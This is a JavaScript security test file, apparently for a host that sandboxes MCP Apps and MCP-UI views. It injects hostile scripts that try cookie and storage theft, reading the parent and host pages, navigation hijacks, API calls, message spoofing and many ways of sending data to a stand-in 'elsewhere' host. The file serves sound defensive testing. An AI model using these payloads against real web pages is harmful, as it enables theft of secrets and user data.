// UIs that attack: each tries to reach the secret, the page around it, the API or other sites.
import { check, pause, SECRET, until } from "./harness.mjs";
import { appPage, mount, rawHtml, received, resource, send, uiPage } from "./relay.mjs";

/** Runs `attack`, a function body with `report`, as the view's script, and gives what it reports. */
async function attack(page, { kind, gosling }, code, extra = {}) {
  const html = `${extra.head ?? ""}<script>
    const report = value => parent.postMessage({ reported: value }, "*");
    const attempt = action => { try { return { got: String(action()) }; } catch (error) { return { failed: error.name }; } };
    const settle = begin => Promise.race([(async () => begin())(), new Promise(resolve => setTimeout(resolve, 4000, "no answer"))])
      .then(value => ({ got: String(value) }), error => ({ failed: error.name }));
    (async () => { ${code} })().catch(error => report({ threw: String(error) }));
  </script>${extra.body ?? ""}`;
  if (kind === "MCP Apps") {
    await mount(page, appPage(gosling, extra.query), "sandbox-proxy-ready");
    await send(page, resource({ html, sandbox: extra.sandbox, csp: extra.csp }));
  } else {
    await mount(page, uiPage(gosling, "contentType=rawhtml"), "ui-proxy-iframe-ready");
    await send(page, rawHtml(html, extra.sandbox));
  }
  return extra.silent ? undefined : await received(page, "reported");
}

export async function hostile(page, world) {
  for (const kind of ["MCP Apps", "MCP-UI"]) {
    const each = { ...world, kind };
    await aroundIt(page, each);
    await secret(page, each);
    await navigation(page, each);
    await api(page, each);
    await messages(page, each);
  }
  await exfiltration(page, world);
  await documentOfApps(page, world);
  const everything = [...world.site.requests, ...world.elsewhere.requests, world.gosling.log()];
  check("the secret is in no request to another site, and not in the server's log",
    !everything.some(text => text.includes(SECRET)), everything.find(text => text.includes(SECRET)));
}

/** Storage, cookies and the documents outside. */
async function aroundIt(page, world) {
  const is = (name, ok, seen) => check(`${world.kind}: a view cannot ${name}`, ok, seen);
  await page.evaluate(() => { document.cookie = "host=private"; localStorage.setItem("host", "private"); });
  const wanted = "allow-scripts allow-same-origin allow-top-navigation allow-popups-to-escape-sandbox";
  const seen = await attack(page, world, `report({
    origin: self.origin,
    cookie: attempt(() => document.cookie), setCookie: attempt(() => document.cookie = "a=b"),
    local: attempt(() => localStorage.length), session: attempt(() => sessionStorage.length),
    database: await settle(() => new Promise((ok, bad) => { const r = indexedDB.open("x"); r.onsuccess = ok; r.onerror = () => bad(r.error); })),
    caches: await settle(() => caches.keys()),
    worker: await settle(() => navigator.serviceWorker.register("/mcp-ui-proxy")),
    parent: attempt(() => parent.document.title), top: attempt(() => top.document.title),
    parentHref: attempt(() => parent.location.href), topHref: attempt(() => top.location.href),
    frameElement: attempt(() => frameElement.sandbox), proxyScript: attempt(() => parent.query.get("secret")),
    opener: String(opener), siblings: attempt(() => top.proxy),
  })`, { sandbox: wanted }) ?? {};
  const failed = value => Boolean(value?.failed);
  is("have an origin, whatever sandbox the host asks for", seen.origin === "null", seen.origin);
  is("read or set cookies", failed(seen.cookie) && failed(seen.setCookie), seen);
  is("use storage", failed(seen.local) && failed(seen.session) && failed(seen.database) && failed(seen.caches), seen);
  is("install a service worker", failed(seen.worker), seen.worker);
  is("read the proxy page", failed(seen.parent) && failed(seen.parentHref) && failed(seen.proxyScript), seen);
  is("read the host page", failed(seen.top) && failed(seen.topHref) && failed(seen.siblings), seen);
  is("reach its own frame element", seen.frameElement?.failed || seen.frameElement?.got === "undefined", seen.frameElement);
}

/** Every place in which a frame sees something of the address around it. */
async function secret(page, world) {
  const { site, elsewhere, gosling } = world;
  const seen = await attack(page, world, `
    const nested = document.createElement("iframe");
    nested.srcdoc = "<script>parent.postMessage({ nested: [document.baseURI, document.referrer, location.href] }, '*')</scr" + "ipt>";
    const inside = new Promise(resolve => addEventListener("message", ({ data }) => data.nested && resolve(data.nested)));
    document.documentElement.append(nested);
    new Image().src = "${elsewhere.url}/image";
    await settle(() => fetch("${elsewhere.url}/fetch", { referrerPolicy: "unsafe-url" }));
    const link = Object.assign(document.createElement("a"), { href: "?x" });
    report({ places: [document.baseURI, document.URL, document.referrer, location.href, link.href, [...(location.ancestorOrigins ?? [])],
      name, await settle(() => inside), performance.getEntries().map(entry => entry.name), document.documentElement.outerHTML.length ],
      history: attempt(() => { const n = history.length; history.back(); return n; }) })`,
    { head: '<meta name="referrer" content="unsafe-url">', query: `&connect_domains=${elsewhere.url}&resource_domains=${elsewhere.url}` });
  check(`${world.kind}: a view finds the secret nowhere`, seen && !JSON.stringify(seen).includes(SECRET), seen);
  check(`${world.kind}: a request of the view arrives elsewhere, with no address in it`,
    await until(() => elsewhere.got("/image")) && !elsewhere.requests.some(text => text.includes("mcp-")), elsewhere.requests);
  const proxy = page.frames().find(frame => frame.url().startsWith(gosling.url));
  check(`${world.kind}: the address of the page itself does not have it`,
    proxy && !(await proxy.evaluate(() => [location.href, document.URL, document.referrer].join())).includes(SECRET));
  check(`${world.kind}: nothing of the page has been sent to the host's site`,
    !site.requests.some(text => text.includes(SECRET)));
}

async function navigation(page, world) {
  const { site, elsewhere, kind } = world;
  const here = page.url();
  const seen = await attack(page, world, `
    const to = "${elsewhere.url}/stolen";
    const tried = {
      top: attempt(() => top.location = to), topReplace: attempt(() => top.location.replace(to)),
      parent: attempt(() => parent.location = to), topHash: attempt(() => top.location.hash = "x"),
      popup: attempt(() => open(to)), popupTop: attempt(() => open(to, "_top")), popupParent: attempt(() => open(to, "_parent")),
    };
    for (const target of ["_top", "_parent", "_blank"]) {
      Object.assign(document.createElement("a"), { href: to, target }).click();
      const form = Object.assign(document.createElement("form"), { action: to, target });
      document.documentElement.append(form);
      attempt(() => form.submit());
    }
    attempt(() => print()); attempt(() => alert("x"));
    setTimeout(report, 700, tried);`);
  await pause(300);
  check(`${kind}: a view cannot navigate the page, or open another`, seen && page.url() === here &&
    page.context().pages().length === 1 && !elsewhere.got("/stolen"), { seen, url: page.url() });
  if (page.url() !== here) await page.goto(site.url + "/host");
}

/** The key is what protects the API: a view that may connect to the server gets no further than 401. */
async function api(page, world) {
  const { gosling, kind } = world;
  const code = `
    const status = (path, init) => settle(() => fetch("${gosling.url}" + path, init).then(response => response.status));
    report({
      config: await status("/config"), sessions: await status("/sessions"),
      start: await status("/agent/start", { method: "POST", headers: { "Content-Type": "application/json" }, body: '{"working_dir":"/"}' }),
      wrongKey: await status("/config", { headers: { "X-Secret-Key": "null" } }),
      page: await status("/mcp-ui-proxy"), credentials: await status("/config", { credentials: "include" }),
    });`;
  const closed = await attack(page, world, code);
  const values = Object.values(closed ?? {});
  check(`${kind}: a view gets nothing from the API`,
    values.length === 6 && values.every(({ failed, got }) => failed || got === "401"), closed);
  if (kind === "MCP-UI") return;
  check(`${kind}: it cannot even connect`, values.every(({ failed }) => failed), closed);
  const open = await attack(page, world, code, { query: `&connect_domains=${gosling.url}` });
  check(`${kind}: with the server among its domains, it gets 401`, Object.entries(open ?? {}).every(
    ([name, { got, failed }]) => got === "401" || (name === "credentials" && failed)), open);
}

async function messages(page, world) {
  const { kind, elsewhere } = world;
  const nested = `<iframe srcdoc="<script>
    top.frames[0].postMessage({ reported: 'as the view' }, '*');
    top.frames[0].postMessage({ method: 'ui/notifications/sandbox-resource-ready', params: { html: 'x' } }, '*');
    top.postMessage({ type: 'ui-proxy-iframe-ready' }, '*');
    parent.postMessage({ sent: 1 }, '*');
  </script>"></iframe>`;
  const seen = await attack(page, world, `addEventListener("message", ({ data }) => data.sent && report("the view itself"))`,
    { body: nested });
  check(`${kind}: a frame inside the view cannot speak for it`, seen === "the view itself", seen);
  check(`${kind}: what a frame sends the host directly does not come from the page`,
    await page.evaluate(() => strangers.length === 1 && strangers[0].origin === "null"));
  await attack(page, world, `addEventListener("message", event => report([event.data, event.source === parent])); parent.postMessage({ up: 1 }, "*")`,
    { silent: true });
  await received(page, "up");
  await page.evaluate(async address => {
    const frame = Object.assign(document.createElement("iframe"), { src: address });
    document.body.append(frame);
    await new Promise(resolve => (frame.onload = resolve));
    frame.contentWindow.postMessage("begin", "*");
  }, elsewhere.url + "/stranger");
  await until(() => page.evaluate(() => strangers.some(({ data }) => data.attacked)));
  await pause(300);
  const after = await page.evaluate(() => messages.map(({ data }) => data));
  check(`${kind}: a frame of another site cannot send the page messages in the host's name`,
    !after.some(data => data.hijacked || JSON.stringify(data).includes('"stranger"')), after);
  const heard = after.filter(data => data.reported).map(data => data.reported);
  check(`${kind}: what it sends the view does not look like the host's`, heard.every(([, relayed]) => !relayed), heard);
  await page.evaluate(() => document.querySelectorAll("iframe").forEach(frame => frame !== proxy && frame.remove()));
}

/** The document of apps is there without the key: another page can neither frame it nor show anything in it. */
async function documentOfApps(page, { gosling }) {
  const seen = await page.evaluate(async server => {
    const frame = Object.assign(document.createElement("iframe"), { src: `${server}/mcp-app-view?connect_domains=${server}` });
    document.body.append(frame);
    await new Promise(resolve => (frame.onload = frame.onerror = resolve));
    const reported = new Promise(resolve => addEventListener("message", ({ source, data }) =>
      source === frame.contentWindow && resolve(data)));
    frame.contentWindow.postMessage({ goslingView: `<script>parent.postMessage("shown", "*")</scr` + `ipt>` }, "*");
    const result = await Promise.race([reported, new Promise(resolve => setTimeout(resolve, 3000, "nothing"))]);
    frame.remove();
    return result;
  }, gosling.url);
  check("MCP Apps: another page cannot show anything in their document", seen === "nothing", seen);
}

/** An app that has data must not get it out, unless its resource declares where to. */
async function exfiltration(page, world) {
  const { elsewhere } = world;
  const to = `${elsewhere.url}/out`;
  await attack(page, { ...world, kind: "MCP Apps" }, `
    const to = "${to}";
    attempt(() => navigator.sendBeacon(to, "data"));
    settle(() => fetch(to, { mode: "no-cors" }));
    attempt(() => new WebSocket(to.replace("http", "ws")));
    attempt(() => new EventSource(to));
    attempt(() => new Worker(URL.createObjectURL(new Blob(["fetch('" + to + "')"]))));
    attempt(() => new Worker("data:text/javascript,fetch('" + to + "')"));
    attempt(() => import(to));
    for (const [tag, fields] of [["img", { src: to }], ["script", { src: to }], ["link", { rel: "stylesheet", href: to }],
      ["link", { rel: "prefetch", href: to }], ["link", { rel: "preload", as: "image", href: to }], ["video", { src: to }],
      ["iframe", { src: to }], ["object", { data: to }], ["embed", { src: to }], ["link", { rel: "manifest", href: to }],
      ["iframe", { srcdoc: "<img src=" + to + "><meta http-equiv=refresh content='0;url=" + to + "'>" }]]) {
      document.documentElement.append(Object.assign(document.createElement(tag), fields));
    }
    const form = Object.assign(document.createElement("form"), { action: to });
    document.documentElement.append(form);
    attempt(() => form.submit());
    document.documentElement.style.background = "url(" + to + ")";
    setTimeout(() => { location = to; }, 500);`, { silent: true, head: `<base href="${elsewhere.url}/">` });
  await pause(2500);
  check("MCP Apps: a view without domains sends nothing anywhere, by a request or by a navigation",
    !elsewhere.got("/out"), elsewhere.requests.filter(text => text.includes("/out")));
}
